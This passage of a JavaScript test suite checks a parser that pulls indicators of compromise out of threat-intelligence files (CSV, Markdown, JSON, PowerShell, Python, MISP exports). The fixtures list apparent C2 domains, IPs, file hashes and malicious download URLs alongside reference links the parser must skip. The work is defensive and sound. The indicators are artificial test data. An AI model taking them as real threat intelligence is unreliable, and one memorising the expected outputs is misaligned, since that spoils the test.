    want: ['mega.nz/file/0Ux1#H28pgAJ', 'https://cdn.discordapp.com/attachments/11/22/a.uue', 'https://qorvelta.com/doc/7', H4],
    never: [H1, 'https://www.branig.net/heron'],
  },
  {
    name: 'a text with two tables of Markdown, the second with other columns, and a type that is no hash of a file',
    file: 'iocs.txt',
    content: `\n| SHA256 | Label | IP | Port |\n|--------|-------|----|------|\n| ${H1} | a.ini | 91.212.44.7 | 443 |\n| ${H2} | b.ini | 91.212.44.8 | 443 |\n\n| IP | Port |\n|----|------|\n| 91.212.44.9 | 443 |\n| 91.212.44.10 |\n`,
    want: [H1, H2, '91.212.44.7', '91.212.44.8', '91.212.44.9', '91.212.44.10'],
  },
  {
    name: 'a type that is no hash of a file',
    file: 'types.csv',
    content: `Indicator,Type,Description\n${M1},MD5,loader\n${M2},Public Key,of the server\n`,
    want: [M1],
    never: [M2],
  },
  {
    name: 'a text without sentences that no name calls a list; a page of a sharing service under "URL"',
    file: 'heron notes',
    content: `THREAT: HERON\n\nSUBJECTS OBSERVED\nMessage from "HARBOUR"\n\nSENDERS OBSERVED\ndesk@qorvelta.com\n\nGTAG\ngtag: rob1\n\nDecodes to:\nInvoke-It -Uri x\n\nDOCUMENT DOWNLOAD URL\nhttp://feedproxy.google.com/~r/tern/~3/8S3/plover.php\nhttps://cdn.discordapp.com/attachments/11/22/a.exe\n\nADDITIONAL TRAFFIC\n91.212.44.7:443\nbuild_id = ${M1}\n`,
    want: [
      'desk@qorvelta.com',
      'http://feedproxy.google.com/~r/tern/~3/8S3/plover.php',
      'https://cdn.discordapp.com/attachments/11/22/a.exe',
      '91.212.44.7:443',
    ],
    never: [M1],
  },
  {
    name: 'rows of a type that says where the rest is from',
    file: 'heron.csv',
    content: `type,value,description\ndomain,qorvelta.com,C2\nsource,https://www.branig.net/heron,\nsource,,https://www.branig.net/two\n`,
    want: ['qorvelta.com'],
    never: ['https://www.branig.net/heron', 'https://www.branig.net/two'],
  },
  {
    name: 'JSON: a field and the values that it is compared with',
    file: 'tern.json',
    content: `{"rules":[{"field":"dns.question.name","values":["amber-heron.net","finch-sync.top"]},{"field":"process.name","values":["gate.qorvelta.com"]}],"config":{"key":"${M1}"}}`,
    want: ['amber-heron.net', 'finch-sync.top'],
    never: ['dns.question.name', 'gate.qorvelta.com', M1],
  },
  {
    name: "Excel's own line for the delimiter, a type and a remark that say legitimate in another language",
    file: 'paket.csv',
    content: `sep=;\r\nTyp;Wert;Kommentar;Erstmals gesehen\r\nDomäne;qorvelta.com;Formular;03.02.2031\r\nDomäne (legitim);dockpost.com;imitiert;\r\nDomäne;branig.net;legitime Seite;\r\n`,
    want: ['qorvelta.com'],
    never: ['dockpost.com', 'branig.net'],
  },
  {
    name: 'PowerShell: a comment first, arrays, the version of the list',
    file: 'check.ps1',
    content: `<#\n Checks for Kettle, version 1.3.0.1\n#>\n$Hashes = @(\n  "${H1}",\n  "${H2}"\n)\n$C2 = '91.212.44.7', 'qorvelta.com'\n`,
    want: [H1, H2, '91.212.44.7', 'qorvelta.com'],
    never: ['1.3.0.1'],
  },
  {
    name: 'Python: what the first line says about the script',
    file: 'kettle.py',
    content: `"""Scanner for Kettle (https://www.branig.net/kettle)."""\nDOMAINS = ["qorvelta.com", "amber-heron.net"]\nHASHES = {"${H1}": "installer"}\n`,
    want: ['qorvelta.com', 'amber-heron.net', H1],
    never: ['https://www.branig.net/kettle'],
  },
  {
    name: 'a column for the nature of a row, one for the provider',
    file: 'nature.csv',
    content: `type,nature,data,provider\nsha256,malicious,${H1},branig.net\nsha256,legitimate,${H2},branig.net\n`,
    want: [H1],
    never: [H2, 'branig.net'],
  },
  {
    name: 'several keys and values in a line',
    file: 'tenants_iocs.txt',
    content:
      '# Tenants\n\nDisplayName: IT_Support[@]harbour-works[.]org | Email: desk[@]qorvelta[.]com | TenantID: ed00fe61-f21f-478e-a768-9d1e39913242\nTenantID: fafe34de-cf53-484b-98ec-4a080c0ebb79 | Approved from 91.212.44[.]7\n\n91.212.44[.]9 | proxy\n',
    want: ['desk@qorvelta.com', '91.212.44.7', '91.212.44.9'],
    never: ['it_support@harbour-works.org'],
  },
  {
    name: 'rows that say where to read more, under the type of what is listed',
    file: 'heron.csv',
    content:
      'Type,Data,Note\nURL,https://finch-sync.top/a/setup.msix,download URL found by dynamic analysis\nURL,https://www.branig.net/heron-unveiled,technical analysis\nURL,https://dockpost.com/heron.pdf,recent write-up\n',
    want: ['https://finch-sync.top/a/setup.msix'],
    never: ['https://www.branig.net/heron-unveiled', 'https://dockpost.com/heron.pdf'],
  },
];

for (const { name, file, content, want, never = [] } of HABITS) {
  test(name, async () => {
    const bytes = typeof content === 'string' ? Buffer.from(content) : content;
    const list = await readList({ bytes, name: file, contentType: '', url: `https://files.example.org/${file}` });
    expect(list, 'is read as a list').toBeDefined();
    const found = list?.indicators ?? [];
    expect(
      found
        .filter(({ verdict, type }) => verdict === 'indicator' && type !== 'mutex')
        .map(({ value }) => value)
        .sort(),
    ).toEqual([...want].sort());
    const kept = found.filter(({ verdict }) => verdict === 'indicator' || verdict === 'context').map(({ value }) => value);
    expect(kept.filter((value) => never.includes(value))).toEqual([]);
  });
}

test('a type with a name of its own is known by its column, whatever else the column is called', async () => {
  const list = await readList({
    text: `domain,JA3 fingerprint,Import hash,Certificate fingerprint\nqorvelta.com,${M1},${M2},${S1}\n`,
    name: 'tls.csv',
    contentType: 'text/csv',
    url: 'https://www.marnstad-labs.com/tls.csv',
  });
  expect(list?.indicators.map(({ type, value }) => [type, value])).toEqual([
    ['domain', 'qorvelta.com'],
    ['ja3', M1],
    ['imphash', M2],
  ]);
});

test("MISP's export says what is not for detection", async () => {
  const text = 'category,type,value,to_ids\nNetwork activity,domain,qorvelta.com,1\nNetwork activity,domain,branig.net,0\n';
  const list = await readList({ text, name: 'event.csv', contentType: 'text/csv', url: 'https://files.example.org/event.csv' });
  expect(list?.indicators.map(({ value, toIds }) => [value, toIds])).toEqual([
    ['qorvelta.com', true],
    ['branig.net', false],
  ]);
});
